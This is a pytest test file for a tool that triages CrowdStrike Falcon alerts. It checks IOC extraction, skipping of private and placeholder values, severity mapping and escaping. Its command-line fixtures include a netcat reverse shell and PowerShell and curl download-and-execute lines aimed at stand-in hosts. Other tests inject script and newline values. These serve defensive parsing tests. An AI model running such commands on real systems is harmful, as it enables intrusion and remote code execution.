"""CrowdStrike Falcon intake, on real alerts (tests/corpus, their provenance in its PROVENANCE.md): the IOCs a
careful analyst would look up are looked up; the host's own names and local addresses, private addresses,
Falcon's all-zero placeholder hashes and CrowdStrike's own hosts never are; a redelivery is the same case;
a bad value costs only itself; and no Falcon alert can ever get an AWS action."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from tests.factories import make_case
from vtriage.eligibility import Place, eligibility
from vtriage.errors import InvalidAlertError
from vtriage.fakes import FakeAlertQueue
from vtriage.intake import IntakeOptions, IntakeResult
from vtriage.intake.body import decode_body
from vtriage.intake_api import accept_alert
from vtriage.models import Alert, Branch, IocOutcome, IocType, Provenance, Subject, Verdict
from vtriage.playbook import choose_branch, plan_actions
from vtriage.remediate import refusal
from vtriage.ticket import render_report

CORPUS = Path(__file__).resolve().parents[1] / "corpus"
ENDPOINT = "elastic-integrations__crowdstrike_alert_test-alert_1.json"
IDENTITY = "elastic-integrations__crowdstrike_alert_test-alert_2.json"
CLOSED = "elastic-integrations__crowdstrike_alert_test-alert_3.json"
CORRELATION = "elastic-integrations__crowdstrike_alert_test-correlation-detection_2.json"
EPP_PUP = "elastic-integrations__crowdstrike_falcon_test-falcon-epp-detection-summary_1.json"
EPP_GIT = "elastic-integrations__crowdstrike_falcon_test-falcon-epp-detection-summary_2.json"
EPP_TEST = "elastic-integrations__crowdstrike_falcon_test-falcon-epp-detection-summary_5.json"
EPP_ZEROS = "elastic-integrations__crowdstrike_falcon_test-falcon-epp-detection-summary_6.json"
LEGACY = "elastic-integrations__crowdstrike_falcon_test-falcon-detection-summary_1.json"
IDENTITY_STREAM = "elastic-integrations__crowdstrike_falcon_test-falcon-ipd-summary_1.json"
CLOUD = "demisto-content__crowdstrike_ioa_alerts_v2_entities_response.json"
# An automated lead, named after its host and a time, is_closed true while its status says new.
LEAD = "elastic-integrations__crowdstrike_alert_test-automated-lead_1.json"
# An automated lead's context signal: the process's, its parent's and its grandparent's sha256.
LEAD_SIGNAL = "elastic-integrations__crowdstrike_alert_test-automated-lead_2.json"
XDR = "elastic-integrations__crowdstrike_falcon_test-falcon-xdr-detection-summary.json"
XDR_PUBLIC = "synthetic-falcon-xdr-detection-public-addresses.json"
# SumoLogic's documented EppDetectionSummaryEvent: "Severity": 4, "SeverityName": "High".
EPP_DOCUMENTED = "sumologic-documentation__crowdstrike-falcon-endpoint-protection_detection_event.json"
ZEROS_SHA256 = "0" * 64
ZEROS_SHA1 = "0" * 40
ZEROS_MD5 = "0" * 32


def load(name: str) -> Any:
    return json.loads((CORPUS / name).read_text())


def read(document: Any, **options: Any) -> IntakeResult:
    """The document as the enrich function reads a message body."""
    return IntakeOptions(**options).read(decode_body(json.dumps(document)))


def the_alert(document: Any, **options: Any) -> Alert:
    result = read(document, **options)
    assert (result.refused, result.ignored) == ((), ())
    [alert] = result.alerts
    return alert


def looked_up(alert: Alert) -> set[str]:
    return {ioc.value for ioc in alert.iocs if ioc.skipped_reason is None}


def skipped(alert: Alert) -> dict[str, str]:
    return {ioc.value: ioc.skipped_reason for ioc in alert.iocs if ioc.skipped_reason is not None}


# (sample, what an analyst looks up, what must never be looked up: the host's own names and local
# addresses, private addresses, placeholders, the same file's other hashes)
SAMPLES = [
    (
        ENDPOINT,
        {
            "b26a6791b72753d2317efd5e1363d93fdd33e611c8b9e08a3b24ea4d755b81fd",  # the detected file
            "0b25d56bd2b4d8a6df45beff7be165117fbf7ba6ba2c07744f039143866335e4",  # its parent, explorer.exe
            "caef4ae19056eeb122a0540508fa8984cea960173ada0dc648cb846d6ef5dd33",  # its grandparent
            "81.2.69.142",  # the host's external address
        },
        {ZEROS_SHA1, "cdf9cfebb400ce89d5b6032bfcdc693b", "abc709-1175", "abc.local", "yuvraj.mahajan"},
    ),
    (IDENTITY, {"81.2.69.144"}, {"abdc454.net.example.com", "gh787.net.example.com", "sioru.com"}),
    (
        CORRELATION,
        {"slack.com"},
        {"host-desktop-01.example.local", "host-nas-01.example.local", "198.51.100.11", "203.0.113.20"},
    ),
    (
        EPP_PUP,
        {"faf0c5e4ef7dbcfd863377c55a4d1d87a3f6a58c13a8a9882e11012066f31976"},
        {ZEROS_SHA1, "848a53dc549be0386e5da0f49700c389", "81.2.69.144", "rfusclient.exe"},
    ),
    (
        EPP_GIT,
        {
            "29aa689f38158d2e8941fa54e436f0260890af31cecad1e8799e5c2df7bc1ecc",
            "https://github.com/redcanaryco/atomic-red-team.git",
        },
        {"172.17.0.1", ZEROS_SHA1},
    ),
    (EPP_TEST, set(), {ZEROS_SHA256, ZEROS_MD5, ZEROS_SHA1, "192.168.33.133"}),
    (EPP_ZEROS, set(), {ZEROS_SHA256, ZEROS_MD5, "192.168.33.133", "atera.exe.exe", "explorer.exe"}),
    (
        LEGACY,
        {"0b2cde5b355bda69aeb15159fa98b5554053f0936259a53c6dfb0934389238a2", "67.43.156.1"},
        {"10.0.0.1", "10.0.0.2", "89.160.20.112", "file.exe"},
    ),
    (IDENTITY_STREAM, {"81.2.69.144"}, {"pc01.domain.com", "domain.com"}),
]


@pytest.mark.parametrize(("sample", "wanted", "never"), SAMPLES, ids=[case[0] for case in SAMPLES])
def test_a_real_falcon_alert_looks_up_what_an_analyst_would_and_nothing_of_its_own(
    sample: str, wanted: set[str], never: set[str]
) -> None:
    # Given a real Falcon alert
    document = load(sample)

    # When intake reads it
    alert = the_alert(document)

    # Then every IOC an analyst would look up is looked up, and none of the host's own or internal values
    assert alert.source == "falcon"
    assert wanted <= looked_up(alert)
    assert not never & {value.lower() for value in looked_up(alert)}


def test_an_xdr_detection_looks_up_its_public_addresses_skips_its_private_ones_and_shows_its_host() -> None:
    # Given Elastic's XDR detection (IPv4Addresses and HostNames comma-separated, all three addresses
    # private) and the same detection observed from two public addresses
    private = the_alert(load(XDR))
    public = the_alert(load(XDR_PUBLIC))

    # Then each address is read on its own: the public ones looked up, the private ones kept skipped
    assert looked_up(private) == set()
    assert skipped(private) == dict.fromkeys(
        ("192.168.0.21", "192.168.0.26", "192.168.0.29"), "private address"
    )
    assert looked_up(public) == {"45.137.21.9", "185.220.101.34"}
    assert skipped(public) == {"192.168.0.21": "private address"}
    assert [ioc.found_at for ioc in public.iocs] == [f"event.IPv4Addresses[{index}]" for index in range(3)]
    # And the case shows the host, which is never looked up
    assert private.vendor is not None
    assert private.vendor.host == "XDR-WIN10"
    assert all(ioc.value.lower() != "xdr-win10" for ioc in public.iocs)


def test_falcons_all_zero_placeholders_are_kept_skipped_with_their_reason() -> None:
    # Given CrowdStrike's test detection, whose every hash Falcon fills with zeros
    alert = the_alert(load(EPP_TEST))

    # Then each placeholder is on the case, skipped as one, and the detection is a sample never acted on
    reasons = skipped(alert)
    assert {reasons[ZEROS_SHA256], reasons[ZEROS_MD5], reasons[ZEROS_SHA1]} == {
        "placeholder hash (all zeros)"
    }
    assert alert.sample
    assert any("crowdstrike_sample_detection" in reason for reason in alert.not_actionable)


def test_one_lookup_per_file_the_other_hashes_say_which_one_stands_for_them() -> None:
    # Given the legacy event, whose file has a real sha256, md5 and sha1
    alert = the_alert(load(LEGACY))

    # Then the sha256 is looked up and the md5 and sha1 point at it
    reasons = skipped(alert)
    assert "0b2cde5b355bda69aeb15159fa98b5554053f0936259a53c6dfb0934389238a2" in looked_up(alert)
    for other in ("49f30e09200e7b59edc5ef32fbd0442c", "7e54a24d4df5b7fe4a75d7ce1c027705c368666b"):
        assert "event.SHA256String is looked up" in reasons[other]


# 32 hex digits no field of these alerts holds.
MD5_LENGTH = "0123456789abcdef0123456789abcdef"


@pytest.mark.parametrize(
    ("sample", "path", "wanted_instead"),
    [
        # The process's sha256 holding an md5: the process's own md5 field is its lookup
        (LEAD_SIGNAL, ("sha256",), "ca10586df7dce4c505a957df0e37f4c9"),
        (LEAD_SIGNAL, ("parent_details", "sha256"), "4519f571b6d1deb863671ecdb9fca13d"),
        (LEAD_SIGNAL, ("grandparent_details", "sha256"), None),
        (EPP_GIT, ("event", "SHA256String"), None),
        (EPP_PUP, ("event", "SHA256String"), "848a53dc549be0386e5da0f49700c389"),
    ],
)
def test_a_field_that_declares_sha256_holding_an_md5_is_skipped_saying_so(
    sample: str, path: tuple[str, ...], wanted_instead: str | None
) -> None:
    # Given a real alert whose field named for a sha256 holds a 32-digit value
    document = load(sample)
    parent = document
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = MD5_LENGTH
    field = ".".join(path)

    # When intake reads it
    alert = the_alert(document)

    # Then the value is not looked up as an md5: it is kept skipped, where it was found, with the reason;
    # the same file's md5 field, when it has one of its own, is the file's lookup
    [kept] = [ioc for ioc in alert.iocs if ioc.found_at == field]
    assert kept.value == MD5_LENGTH
    assert kept.skipped_reason is not None
    assert "declares sha256, but the value has 32 hex digits" in kept.skipped_reason
    assert MD5_LENGTH not in looked_up(alert)
    if wanted_instead is not None:
        assert wanted_instead in looked_up(alert)


def test_an_ioc_type_that_declares_a_hash_holds_that_hash_or_is_skipped() -> None:
    # Given the endpoint alert whose ioc_type says hash_sha256 and whose ioc_value is an md5
    document = load(ENDPOINT)
    document["ioc_type"] = "hash_sha256"
    document["ioc_value"] = MD5_LENGTH

    # When intake reads it
    alert = the_alert(document)

    # Then it is skipped with the reason, not looked up as an md5
    [kept] = [ioc for ioc in alert.iocs if ioc.found_at == "ioc_value"]
    assert "declares sha256" in (kept.skipped_reason or "")


def test_without_a_sha256_the_md5_is_looked_up() -> None:
    # Given the endpoint alert with its sha256 fields emptied (an older sensor reports only the md5)
    document = load(ENDPOINT)
    document["sha256"] = ""
    document["ioc_context"] = []
    document["quarantined_files"] = []

    # Then the md5 is the file's lookup
    assert "cdf9cfebb400ce89d5b6032bfcdc693b" in looked_up(the_alert(document))


def test_a_reopened_alert_reads_its_network_accesses_and_skips_the_hosts_own_addresses() -> None:
    # Given the closed on-demand scan detection, reopened, with one network access to a private address
    document = load(CLOSED)
    document["status"] = "reopened"
    document["network_accesses"].append(
        {"local_address": "10.20.0.5", "remote_address": "10.20.0.9", "remote_port": "445"}
    )

    # When intake reads it
    alert = the_alert(document)

    # Then the public remote address is looked up, once, the private one and the host's own are not
    assert "81.2.69.142" in looked_up(alert)
    assert skipped(alert)["10.20.0.9"] == "private address"
    assert "81.2.69.192" not in looked_up(alert)
    assert "216.160.83.56" not in looked_up(alert)
    # And the same detected file named in associated_files and ioc_context is looked up once
    keys = [ioc.key for ioc in alert.iocs]
    assert len(keys) == len(set(keys))
    assert "d7606155185cf8a9aa78a56cf486ed48ede0119490e1f087c03d502890c475c9" in looked_up(alert)


def test_an_automated_lead_falcon_closed_is_acknowledged_whatever_its_status_says() -> None:
    # Given Elastic's real automated lead: is_closed true, status still "new"
    result = read(load(LEAD))

    # Then no case, and the reason names the field
    assert result.alerts == ()
    [ignored] = result.ignored
    assert ignored.reason == "is_closed is true: dealt with in Falcon"


def test_an_automated_lead_is_titled_by_its_indicators_never_by_its_host() -> None:
    # Given the automated lead, open (its name is its host and a time: "host-1.example.local at ...")
    document = load(LEAD)
    document["is_closed"] = False

    # When intake reads it
    alert = the_alert(document)

    # Then its type and title are its indicator's name and description, and its host is shown on its own
    assert alert.type == "ReconUnderWebService"
    assert alert.title == (
        "Automated lead: ReconUnderWebService: A command intended to perform reconnaissance has executed"
        " under a web service."
    )
    assert "host-1.example.local" not in alert.title
    assert alert.vendor is not None
    assert alert.vendor.host == "host-1.example.local"


def test_a_closed_alert_is_acknowledged_without_a_case() -> None:
    # Given the real alert Falcon closed
    result = read(load(CLOSED))

    # Then no case, and the reason names the field
    assert result.alerts == ()
    [ignored] = result.ignored
    assert ignored.reason == "status is 'closed': dealt with in Falcon"
    assert (
        ignored.alert_id
        == "4446934rf3fdb64ec3056ddfb96e:ods:4446934rf3fdb64ec3056ddfb96e:bcd3dcf7224c4b75ad16b9387e982fd0"
    )


COMMAND_LINES = [
    # (command line, looked up, skipped: value -> reason keyword, never an IOC)
    (
        r"powershell.exe -nop -c iwr hxxp://payload-drop[.]top/a.ps1 -OutFile C:\Users\bob\a.ps1",
        {"http://payload-drop.top/a.ps1"},
        {},
        {"a.ps1", "bob"},
    ),
    (r"cmd.exe /c nc.exe 45.33.32.156 4444 -e cmd.exe", {"45.33.32.156"}, {}, {"nc.exe", "cmd.exe"}),
    (
        r"curl -k https://10.1.2.3/stage2 && curl http://fileserver.corp.internal/x",
        set(),
        {"https://10.1.2.3/stage2": "private", "http://fileserver.corp.internal/x": "internal"},
        set(),
    ),
    (
        r"CSFalconService.exe --cloud https://falcon.us-2.crowdstrike.com/api ts01-b.crowdstrike.com",
        set(),
        {"https://falcon.us-2.crowdstrike.com/api": "CrowdStrike", "ts01-b.crowdstrike.com": "CrowdStrike"},
        set(),
    ),
    (
        # A quoted URL holding spaces, cut at the first: not the URL that ran, but its host is looked up
        'powershell -c "IEX (New-Object Net.WebClient)'
        ".DownloadString('http://evil-cdn.top/a b/p.ps1?x=1 2')\"",
        {"evil-cdn.top"},
        {"http://evil-cdn.top/a": "cut at a space inside quotes"},
        set(),
    ),
    (
        # A URL that is one word of a quoted command is whole: looked up as it is
        'cmd.exe /c "powershell iwr http://evil-cdn.top/p.ps1 | iex"',
        {"http://evil-cdn.top/p.ps1"},
        {},
        {"evil-cdn.top"},
    ),
    (
        r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL {645FF040-5081-101B-9F08-00AA002F954E}",
        set(),
        {},
        {"shell32.dll", "645ff040-5081-101b-9f08-00aa002f954e"},
    ),
]


@pytest.mark.parametrize(("command_line", "wanted", "skips", "never"), COMMAND_LINES)
def test_command_lines_give_their_urls_domains_and_addresses_refanged_and_nothing_else(
    command_line: str, wanted: set[str], skips: dict[str, str], never: set[str]
) -> None:
    # Given the endpoint alert whose process ran this command line
    document = load(ENDPOINT)
    document["cmdline"] = command_line

    # When intake reads it
    alert = the_alert(document)
    from_the_command_line = {ioc.value: ioc.skipped_reason for ioc in alert.iocs if ioc.found_at == "cmdline"}

    # Then its indicators are read, the internal and CrowdStrike's own are skipped, no word is an IOC
    assert {value for value, reason in from_the_command_line.items() if reason is None} == wanted
    for value, keyword in skips.items():
        assert keyword in (from_the_command_line[value] or ""), from_the_command_line
    assert not never & set(from_the_command_line)


def test_a_bad_value_costs_only_itself_and_says_why() -> None:
    # Given the endpoint alert with an external address that is no address and a hash that is no hash
    document = load(ENDPOINT)
    document["device"]["external_ip"] = "81.2.69.142\n<script>"
    document["parent_details"]["sha256"] = "not-a-hash"

    # When intake reads it
    alert = the_alert(document)

    # Then the alert stands with its other IOCs, each bad value kept skipped, escaped, with its reason
    assert "b26a6791b72753d2317efd5e1363d93fdd33e611c8b9e08a3b24ea4d755b81fd" in looked_up(alert)
    bad = {
        ioc.found_at: ioc
        for ioc in alert.iocs
        if ioc.found_at in ("device.external_ip", "parent_details.sha256")
    }
    assert bad["device.external_ip"].value == "81.2.69.142\\n<script>"
    assert "line break" in (bad["device.external_ip"].skipped_reason or "")
    assert "not an md5, sha1 or sha256" in (bad["parent_details.sha256"].skipped_reason or "")
    # And with no parent sha256 to stand for it, the parent's md5 is its lookup
    assert "8cc3fcdd7d52d2d5221303c213e044ae" in looked_up(alert)


def test_an_entity_without_its_composite_id_is_refused_alone() -> None:
    # Given an Alerts API response of the cloud alerts, the second without its id, the third an id only
    document = load(CLOUD)
    del document["resources"][1]["composite_id"]
    document["resources"].append("00000000000000000000000000000001:fcs:ioa-211:33333333")

    # When intake reads it
    result = read(document)

    # Then the first is a case, the others are refused, each naming where and why
    assert [alert.id for alert in result.alerts] == [
        "00000000000000000000000000000001:fcs:ioa-211:00000000-0000-0000-0000-000000000002"
    ]
    reasons = {refused.where: refused.reason for refused in result.refused}
    assert reasons["resources[1]"] == "resources[1].composite_id: missing"
    assert "POST /alerts/entities/alerts/v2" in reasons["resources[2]"]


def test_a_responses_errors_are_noted_on_each_of_its_alerts() -> None:
    # Given the real Alerts API response of two cloud alerts, which also reports an id it could not find
    document = load(CLOUD)
    document["errors"] = [{"code": 404, "message": "composite id not found", "id": "aaaa:ind:bbbb:1"}]

    # When intake reads it
    result = read(document)

    # Then both alerts are cases, and each says what the response reported, so that nobody takes the page
    # for every alert asked for
    assert len(result.alerts) == 2
    for alert in result.alerts:
        assert (
            "the Alerts API response that held this alert also reported errors: 404 'composite id not found'"
            " (id 'aaaa:ind:bbbb:1')" in " ".join(alert.notes)
        )


def test_a_body_that_is_only_an_api_error_is_refused_saying_so() -> None:
    # Given what the Alerts API answers a client whose token was refused
    document = {
        "meta": {"query_time": 0.01},
        "resources": None,
        "errors": [{"code": 401, "message": "access denied, authorization failed"}],
    }

    # When intake reads it, Then it is refused as an API error, not as a shape it does not know
    with pytest.raises(InvalidAlertError) as refused:
        read(document)
    assert refused.value.reason == (
        "a CrowdStrike API error response, not alerts: 401 'access denied, authorization failed'"
    )


@pytest.mark.parametrize(
    "document",
    [{"meta": {"query_time": 0.01}, "resources": [], "errors": []}, {"resources": []}],
    ids=["a response's empty page", "resources alone"],
)
def test_a_page_with_no_alert_is_ignored_saying_so(document: dict[str, Any]) -> None:
    # Given an Alerts API page with no alert in it
    # When intake reads it
    result = read(document)

    # Then nothing is refused and no case is made: the page is ignored, with the reason
    assert (result.alerts, result.refused) == ((), ())
    [ignored] = result.ignored
    assert ignored.reason == "resources is empty: a page of the Alerts API with no alert, nothing to triage"


def test_redeliveries_are_one_case_however_the_alert_arrives() -> None:
    # Given an alert entity alone, again, and inside an Alerts API response
    entity = load(IDENTITY)
    response = {"meta": {"query_time": 0.1, "trace_id": "t"}, "errors": [], "resources": [entity]}

    # When each is read
    cases = {the_alert(entity).case_id, the_alert(copy.deepcopy(entity)).case_id, the_alert(response).case_id}

    # Then they are one case, named after Falcon's composite id
    assert len(cases) == 1
    assert the_alert(entity).id == entity["composite_id"]


def test_a_stream_event_read_again_at_another_offset_is_the_same_case() -> None:
    # Given an Event Streams detection, and the same event delivered again after a reconnect (new offset)
    event = load(EPP_GIT)
    again = copy.deepcopy(event)
    again["metadata"]["offset"] = 2

    # Then it is one case, identified by the event's CompositeId
    assert the_alert(event).case_id == the_alert(again).case_id
    assert the_alert(event).id == event["event"]["CompositeId"]


def _set(document: dict[str, Any], path: str, value: Any) -> None:
    """Set the field at the dotted `path` of a document (each part a key)."""
    *parents, key = path.split(".")
    for part in parents:
        document = document[part]
    document[key] = value


# What changes while the alert does not (Falcon re-crawls an alert without updating it; a stream
# redelivers an event with its enrichment; the host's own IPv6 address only decides what is its own)
VOLATILE = [
    (LEAD_SIGNAL, "crawled_timestamp", "2026-05-11T07:13:23.87504674Z"),
    (LEAD_SIGNAL, "seconds_to_triaged", 3600),
    (LEGACY, "event.MitreAttack", [{"Tactic": "Execution", "Technique": "Rundll32", "PatternID": 10186}]),
    (EPP_GIT, "event.LocalIPv6", "2a02:cf40::"),
    (EPP_GIT, "metadata.offset", 2),
]


@pytest.mark.parametrize(("sample", "path", "value"), VOLATILE, ids=[change[1] for change in VOLATILE])
def test_a_change_of_volatile_metadata_under_the_same_id_and_version_is_the_same_case(
    sample: str, path: str, value: Any
) -> None:
    # Given a real alert, and the same alert at the same version with only its metadata changed
    first = load(sample)
    again = copy.deepcopy(first)
    _set(again, path, value)

    # When both are read
    alerts = the_alert(first), the_alert(again)

    # Then they are one case: no second ticket for a re-crawl or an enrichment
    assert alerts[0].case_id == alerts[1].case_id


# What decides triage: another value under the same id and version is another case, which names the first
# (decision 11: a benign document borrowing a genuine alert's id and version cannot swallow it)
DECISIVE = [
    (LEAD_SIGNAL, "sha256", "b26a6791b72753d2317efd5e1363d93fdd33e611c8b9e08a3b24ea4d755b81fd"),
    (LEAD_SIGNAL, "severity", 10),
    (LEAD_SIGNAL, "status", "in_progress"),
    (LEAD_SIGNAL, "device.hostname", "host-2.example.local"),
    (LEAD_SIGNAL, "device.device_id", "dddddddddddddddddddddddddddddddd"),
    (LEAD_SIGNAL, "user_name", "www-data"),
    (LEAD_SIGNAL, "device.external_ip", "81.2.69.142"),
    (LEAD_SIGNAL, "name", "ReconUnderWebService"),
    (EPP_GIT, "event.SHA256String", "faf0c5e4ef7dbcfd863377c55a4d1d87a3f6a58c13a8a9882e11012066f31976"),
    (EPP_GIT, "event.SeverityName", "Critical"),
    (EPP_GIT, "event.AgentId", "dddddddddddddddddddddddddddddddd"),
    (EPP_GIT, "event.CommandLine", "git clone https://github.example.net/attacker/tools.git"),
]


@pytest.mark.parametrize(("sample", "path", "value"), DECISIVE, ids=[change[1] for change in DECISIVE])
def test_another_value_that_decides_triage_under_the_same_id_and_version_is_another_case(
    sample: str, path: str, value: Any
) -> None:
    # Given a real alert, and a document under its id and version saying another thing triage reads
    first = load(sample)
    other = copy.deepcopy(first)
    _set(other, path, value)

    # When both are read
    alerts = the_alert(first), the_alert(other)

    # Then they claim one alert, but each is a case of its own
    assert alerts[0].finding_key == alerts[1].finding_key
    assert alerts[0].case_id != alerts[1].case_id


def test_two_real_contents_under_one_composite_id_are_two_cases() -> None:
    # Given Elastic's two stream events under one CompositeId and creation time (another file each)
    pup, git = the_alert(load(EPP_PUP)), the_alert(load(EPP_GIT))

    # Then neither swallows the other
    assert (pup.id, pup.version) == (git.id, git.version)
    assert pup.case_id != git.case_id


@pytest.mark.parametrize(
    "event_type", ["EppDetectionSummaryEvent", "EPPDetectionSummaryEvent", "eppdetectionsummaryevent"]
)
def test_both_casings_of_the_detection_summary_are_read(event_type: str) -> None:
    # Given the same detection under each spelling CrowdStrike uses
    event = load(EPP_PUP)
    event["metadata"]["eventType"] = event_type

    # Then it is read the same
    assert the_alert(event).title == "NGAV: This file is classified as Adware/PUP based on its SHA256 hash."


def test_another_stream_event_type_is_acknowledged_naming_it() -> None:
    # Given an authentication audit event of the same stream
    event = {
        "metadata": {"customerIDString": "123123abcd", "offset": 7, "eventType": "AuthActivityAuditEvent"},
        "event": {"UserId": "someone@example.com", "OperationName": "twoFactorAuthenticate", "Success": True},
    }

    # Then no case: it names no detection
    result = read(event)
    assert result.alerts == ()
    [ignored] = result.ignored
    assert "'AuthActivityAuditEvent', not a detection summary" in ignored.reason


def test_the_test_detection_is_ignored_when_samples_are() -> None:
    # Given CrowdStrike's test detection and a deployment that ignores samples
    result = read(load(EPP_TEST), ignore_samples=True)

    # Then no case
    assert result.alerts == ()
    assert "crowdstrike_sample_detection" in result.ignored[0].reason


@pytest.mark.parametrize(
    ("sample", "score", "label"),
    [
        (ENDPOINT, 3.0, "low"),
        (IDENTITY, 7.9, "high"),
        (EPP_GIT, 7.0, "high"),
        (LEGACY, 3.0, "low"),
        (EPP_DOCUMENTED, 7.0, "high"),
    ],
)
def test_falcons_severity_lands_in_the_same_band(sample: str, score: float, label: str) -> None:
    # Given a real alert (0-100, or the legacy 1-5)
    alert = the_alert(load(sample))

    # Then its severity is Falcon's band on vtriage's scale
    assert (alert.severity.score, alert.severity.label) == (score, label)


def test_a_documented_stream_detection_rated_4_high_is_high_and_gets_a_ticket() -> None:
    # Given SumoLogic's documented EppDetectionSummaryEvent (a ransomware process killed), rated
    # "Severity": 4, "SeverityName": "High" on Event Streams' 1-5 scale
    alert = the_alert(load(EPP_DOCUMENTED))

    # When its case is routed, its file unknown to VirusTotal
    case = make_case(alert)

    # Then it is high, read without a disagreement to note, and a person gets a ticket
    assert (alert.severity.score, alert.severity.label) == (7.0, "high")
    assert not any("Severity" in note for note in alert.notes)
    assert choose_branch(case, "medium") is Branch.TICKET


def rated(sample: str, field: str, value: int, name: str | None) -> dict[str, Any]:
    """The real alert with its severity number `field` set to `value` and its severity name to `name`
    (an Event Streams event's `event.SeverityName`, an alert entity's `severity_name`)."""
    document: dict[str, Any] = load(sample)
    parent = document.get("event", document)
    parent[field] = value
    parent["SeverityName" if "event" in document else "severity_name"] = name
    return document


@pytest.mark.parametrize(
    ("sample", "field", "value", "name", "label", "noted"),
    [
        # An Alerts API 0-100 number that says another band than its name: the name is read, noted
        (ENDPOINT, "severity", 70, "Low", "low", "severity is 70, high on Falcon's 0-100 scale"),
        # Event Streams' 1-5 number below its name's band
        (EPP_DOCUMENTED, "Severity", 2, "Critical", "critical", "event.Severity is 2, low on Falcon's 1-5"),
        # Event Streams' 0-100 number agreeing with its name: nothing to note
        (EPP_DOCUMENTED, "Severity", 90, "Critical", "critical", None),
        # A number with no name: on its own scale (a stream's 1-5, the API's 0-100)
        (EPP_DOCUMENTED, "Severity", 5, None, "critical", None),
        (ENDPOINT, "severity", 5, None, "low", None),
    ],
)
def test_each_severity_number_is_read_on_its_own_scale_and_the_name_wins_a_disagreement(
    sample: str, field: str, value: int, name: str | None, label: str, noted: str | None
) -> None:
    # Given a real alert whose severity and name are set so
    document = rated(sample, field, value, name)

    # When intake reads it
    alert = the_alert(document)

    # Then its band is the one a person reads, and a disagreement is said on the case
    assert alert.severity.label == label
    disagreements = [note for note in alert.notes if "as the name says" in note]
    if noted is None:
        assert disagreements == []
    else:
        [note] = disagreements
        assert noted in note


@pytest.mark.parametrize(
    ("sample", "field", "value", "name", "shown"),
    [
        (EPP_DOCUMENTED, "Severity", 1, "Informational", "informational"),
        (EPP_DOCUMENTED, "Severity", 1, None, "informational"),
        (ENDPOINT, "severity", 10, "Informational", "informational"),
        (ENDPOINT, "severity", 10, None, "low"),
        (ENDPOINT, "severity", 30, "Low", "low"),
    ],
)
def test_an_informational_alert_is_shown_informational_and_ranked_low(
    sample: str, field: str, value: int, name: str | None, shown: str
) -> None:
    # Given a real alert rated informational by its name, or by Event Streams' 1 of 1-5
    document = rated(sample, field, value, name)

    # When intake reads it
    alert = the_alert(document)

    # Then a person reads "informational" where Falcon said so, and triage ranks it low
    assert alert.severity.shown_label == shown
    assert alert.severity.label == "low"


def test_a_source_host_without_a_dot_is_no_domain() -> None:
    # Given the real correlation detection, its source hosts a domain, an internal name and a bare
    # machine name
    document = load(CORRELATION)
    document["source_hosts"] = ["slack.com", "host-desktop-01.example.local", "WKS-0042"]

    # When intake reads it
    alert = the_alert(document)

    # Then the machine name gives no IOC, and the names with a dot are domains as before
    values = [ioc.value for ioc in alert.iocs]
    assert "slack.com" in values
    assert "host-desktop-01.example.local" in values
    assert not [value for value in values if "wks-0042" in value.lower()]


def test_a_severity_written_as_a_string_is_read_as_its_number() -> None:
    # Given the identity alert rated "70" (a string, as a relay re-encoded it) with no name
    document = load(IDENTITY)
    document["severity"] = "70"
    document["severity_name"] = None

    # When intake reads it
    alert = the_alert(document)

    # Then it is high, the form noted, and nothing was guessed
    assert (alert.severity.score, alert.severity.label) == (7.0, "high")
    assert "severity: a number written as a string ('70'): read as 70" in alert.notes
    assert not any("guessed" in note for note in alert.notes)


def test_an_unreadable_severity_falls_back_to_its_name_and_says_so() -> None:
    # Given the identity alert with a severity that is no number
    document = load(IDENTITY)
    document["severity"] = "very"

    # Then its name stands in, noted
    alert = the_alert(document)
    assert alert.severity.label == "high"
    assert any("severity: expected a number from 0 to 100, got 'very'" in note for note in alert.notes)


def test_the_case_names_the_falcon_product_host_user_and_console_link_escaped() -> None:
    # Given the endpoint alert, with a user name that tries to start a line of its own
    document = load(ENDPOINT)
    document["user_name"] = "mohit.jha\nApprove: https://evil.example.net"
    alert = the_alert(document)

    # When its case is reported
    lines = {line.label: line.value for line in render_report(make_case(alert)).lines}

    # Then the vendor's terms are there, each escaped on its own line
    assert lines["Platform"] == "CrowdStrike Falcon"
    assert lines["Product"] == "FalconInsight"
    assert lines["Host"] == "ABC709-1175"
    assert lines["User"] == "mohit.jha\\nApprove: hxxps://evil.example.net"
    assert lines["Console"].startswith("hxxps://falcon.us-2.crowdstrike.com/activity-v2/detections/")
    assert lines["Customer"] == "92012896127c4a948236ba7601b886b0"


def test_a_link_that_is_not_falcons_console_is_never_shown_as_one() -> None:
    # Given an alert whose console link points elsewhere
    document = load(IDENTITY)
    document["falcon_host_link"] = "https://falcon.crowdstrike.com.evil.example.net/login"

    # Then the case has no console link, and a note says why
    alert = the_alert(document)
    assert alert.vendor is not None
    assert alert.vendor.console_url is None
    assert any("falcon_host_link" in note and "not shown" in note for note in alert.notes)


def test_no_falcon_alert_ever_gets_an_aws_action() -> None:
    # Given a cloud detection naming an AWS account, deployed in that very account (with no Falcon tenant
    # of its own), and even an alert stripped of any reason intake gave it
    [alert, _] = read(load(CLOUD)).alerts
    stripped = alert.model_copy(update={"not_actionable": ()})
    place = Place(own_account="000000000001")
    provenance = Provenance(channel="detector")

    # When eligibility decides, and the playbooks plan for a malicious IOC
    allowed = eligibility(stripped, provenance, place, "approval")
    applied = allowed.applied_to(stripped)
    malicious = [IocOutcome(type=IocType.IP, value="45.33.32.156", found_at="x", verdict=Verdict.MALICIOUS)]

    # Then the place refuses it in words a person understands, nothing is planned, nothing may run
    reason = "a CrowdStrike Falcon alert names no AWS account or Region: vtriage takes no AWS action on it"
    assert any(reason in text for text in allowed.not_actionable)
    assert plan_actions(applied, malicious) == []
    assert reason in (refusal(make_case(stripped), place) or "")
    assert (alert.account, alert.region) == ("none", "none")


def test_the_intake_url_queues_the_document_as_sent_and_names_its_alerts() -> None:
    # Given a real multi-alert document as a sender pushes it
    body = (CORPUS / CLOUD).read_text()
    queue = FakeAlertQueue()

    # When the intake reads it as the enrich function will
    accepted = accept_alert(body, queue, options=IntakeOptions(), stamp={})

    # Then it is queued unchanged, each alert named
    assert queue.bodies == [body]
    assert list(accepted.alert_ids) == [
        "00000000000000000000000000000001:fcs:ioa-211:00000000-0000-0000-0000-000000000002",
        "00000000000000000000000000000001:fcs:ioa-211:11111111-2222-3333-4444-555555555555",
    ]


# --- Falcon Cloud Security's indicators of attack, as Event Streams sends them --------------------------

# Elastic's CSPMIOAStreamingEvent: "EC2 instance manually deleted by IAM user", SeverityName High, Severity 1.
